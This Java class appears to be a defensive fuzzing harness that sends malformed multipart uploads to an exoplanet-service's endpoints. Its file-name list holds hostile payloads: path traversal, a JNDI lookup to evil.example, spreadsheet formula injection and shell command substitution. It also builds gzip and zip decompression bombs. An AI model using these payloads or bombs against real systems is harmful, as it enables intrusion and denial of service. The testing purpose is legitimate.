package io.exoscout.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * Forms that are cut, nested or endless, and files that are packed to be something else
 * when unpacked.
 */
final class FormAttacks {

	private static final String INSPECT = "/exo-scout-orchestrator/inspect";

	private static final List<String> FORMS = List.of("/exo-scout-orchestrator", INSPECT, "/exo-scout-predictor",
			"/exo-scout-predictor/models", "/exo-scout-predictor/features", "/get-exoplanets/import");

	private static final List<String> BOUNDARIES = List.of("", " ", "\"", "\"x", "x\"", "x y", "x;y", "x".repeat(500),
			"\0", "\u00e9", "x; boundary=y", "--", "=", "x\\", "(x)");

	private static final List<String> HEADS = List.of("Content-Disposition: form-data",
			"Content-Disposition: form-data; name", "Content-Disposition: form-data; name=",
			"Content-Disposition: form-data; name=\"\"",
			"Content-Disposition: attachment; name=\"file\"; filename=\"a.csv\"",
			"Content-Disposition: form-data; name=\"file", "Content-Disposition: form-data; name=\"fi\0le\"",
			"Content-Disposition: form-data; name=\"class.module.classLoader.x\"",
			"Content-Disposition: form-data; name=\"params\"; filename=\"a.json\"",
			"Content-Disposition: form-data; name=\"job_id\"; filename=\"a\"",
			"Content-Disposition: form-data; name=\"file[]\"; filename=\"a.csv\"",
			"Content-Disposition: form-data; name=\"$where\"",
			"Content-Disposition: form-data; name=\"" + "n".repeat(9000) + "\"", "X: y", "", "Content-Disposition",
			": x", "Content-Disposition: form-data; name=\"file\"; name=\"params\"",
			"Content-Type: multipart/mixed; boundary=z", "Content-Disposition: form-data; name*=utf-8''%66ile",
			"Content-Disposition: form-data; name=\"=?utf-8?Q?file?=\"");

	private static final List<String> FILE_NAMES = List.of("../../etc/passwd", "..\\..\\windows\\x", "/etc/passwd",
			"C:\\x", "a\0.csv", "con", ".htaccess", "a".repeat(5000), "\u202egpj.csv", "<script>.csv",
			"=cmd|'/c calc'!A1", "a%00.csv", "a\r\nX: 1.csv", "${jndi:ldap://evil.example/a}", "\ud83e\ude90.csv", "",
			" ", ".", "..", "a/../b.csv", "'; drop table", "file:///etc/passwd", "|id", "`id`", "$(id)");

	private FormAttacks() {
	}

	static void addTo(Attacks attacks, String job, String table) {
		for (String path : FORMS) {
			for (String boundary : BOUNDARIES) {
				attacks.refused("boundaries", path + " " + boundary, RawRequest.post(path,
						"multipart/form-data; boundary=" + boundary,
						"--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a\"\r\n\r\na\r\n--x--\r\n"));
			}
			for (String head : HEADS) {
				attacks.refused("heads of parts", path + " " + head, form(path, head, "a,b\n1,2\n"));
				attacks.refused("heads of parts", path + " cut after " + head,
						RawRequest.post(path, "multipart/form-data; boundary=x", "--x\r\n" + head));
			}
			attacks.refused("many parts", path, many(path, 3000, 0));
			attacks.refused("many parts", path + " nested", many(path, 1, 500));
			attacks.refused("many parts", path + " with long heads", form(path,
					"X: " + "y".repeat(20_000) + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a\"",
					"a"));
			attacks.refused("many parts", path + " two files", two(path));
		}
		for (String name : FILE_NAMES) {
			attacks.harmless("names of files", name,
					form(INSPECT, "Content-Disposition: form-data; name=\"file\"; filename=\"" + name + "\"", table));
			attacks.harmless("names of files", "to score: " + name,
					RawRequest.post("/exo-scout-predictor?job_id=" + job, "multipart/form-data; boundary=x",
							part("Content-Disposition: form-data; name=\"file\"; filename=\"" + name + "\"", table)));
		}
		byte[] packed = gzip(table.getBytes(StandardCharsets.UTF_8));
		for (int length : new int[] { 1, 2, 3, 9, 10, 11, 18, packed.length / 2, packed.length - 9, packed.length - 8,
				packed.length - 1 }) {
			attacks.refused("packed files", "cut after " + length, file(INSPECT, Arrays.copyOf(packed, length)));
		}
		for (int at = 0; at < Math.min(60, packed.length); at++) {
			byte[] turned = packed.clone();
			turned[at] ^= (byte) 0x41;
			attacks.harmless("packed files", "turned at " + at, file(INSPECT, turned));
		}
		byte[] empty = gzip(new byte[0]);
		attacks.refused("packed files", "20,000 empty members", file(INSPECT, repeated(empty, 20_000)));
		attacks.refused("packed files", "zeros", file(INSPECT, gzip(new byte[50_000_000])));
		attacks.refused("packed files", "blank lines",
				file(INSPECT, gzip("\n".repeat(30_000_000).getBytes(StandardCharsets.US_ASCII))));
		attacks.refused("packed files", "comment lines",
				file(INSPECT, gzip("#\n".repeat(15_000_000).getBytes(StandardCharsets.US_ASCII))));
		attacks.refused("packed files", "rows of commas", file(INSPECT,
				gzip(("kepid,koi_disposition\n" + ",\n".repeat(10_000_000)).getBytes(StandardCharsets.US_ASCII))));
		attacks.refused("packed files", "packed twice", file(INSPECT, gzip(packed)));
		for (String name : FILE_NAMES) {
			attacks.harmless("names in archives", name,
					file(INSPECT, zip(name, table.getBytes(StandardCharsets.UTF_8), 1)));
		}
		attacks.refused("packed files", "archive of many",
				file(INSPECT, zip("a.csv", table.getBytes(StandardCharsets.UTF_8), 2000)));
		attacks.refused("packed files", "archive of zeros", file(INSPECT, zip("a.csv", new byte[50_000_000], 1)));
	}

	static byte[] file(String path, byte[] content) {
		byte[] head = "--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.csv\"\r\n\r\n"
			.getBytes(StandardCharsets.US_ASCII);
		ByteArrayOutputStream body = new ByteArrayOutputStream();
		body.writeBytes(head);
		body.writeBytes(content);
		body.writeBytes("\r\n--x--\r\n".getBytes(StandardCharsets.US_ASCII));
		return RawRequest.post(path, "multipart/form-data; boundary=x", body.toByteArray());
	}

	private static byte[] form(String path, String head, String content) {
		return RawRequest.post(path, "multipart/form-data; boundary=x", part(head, content));
	}

	private static String part(String head, String content) {
		return "--x\r\n" + head + "\r\n\r\n" + content + "\r\n--x--\r\n";
	}

	private static byte[] many(String path, int parts, int deep) {
		StringBuilder body = new StringBuilder();
		for (int i = 0; i < parts; i++) {
			body.append("--x\r\nContent-Disposition: form-data; name=\"p").append(i).append("\"\r\n\r\na\r\n");
		}
		for (int i = 0; i < deep; i++) {
			body.append(
					"--x\r\nContent-Disposition: form-data; name=\"file\"\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n");
		}
		return RawRequest.post(path, "multipart/form-data; boundary=x", body.append("--x--\r\n").toString());
	}

	private static byte[] two(String path) {
		String head = "--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.csv\"\r\n\r\na,b\n1,2\n\r\n";
		return RawRequest.post(path, "multipart/form-data; boundary=x", head + head + "--x--\r\n");
	}

	static byte[] gzip(byte[] content) {
		ByteArrayOutputStream packed = new ByteArrayOutputStream();
		try (GZIPOutputStream out = new GZIPOutputStream(packed)) {
			out.write(content);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return packed.toByteArray();
	}

	private static byte[] zip(String name, byte[] content, int entries) {
		ByteArrayOutputStream packed = new ByteArrayOutputStream();
		try (ZipOutputStream out = new ZipOutputStream(packed)) {
			for (int i = 0; i < entries; i++) {
				out.putNextEntry(new ZipEntry((i == 0) ? name : i + name));
				out.write(content);
				out.closeEntry();
			}
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return packed.toByteArray();
	}

	private static byte[] repeated(byte[] one, int times) {
		byte[] all = new byte[one.length * times];
		for (int i = 0; i < times; i++) {
			System.arraycopy(one, 0, all, i * one.length, one.length);
		}
		return all;
	}

}
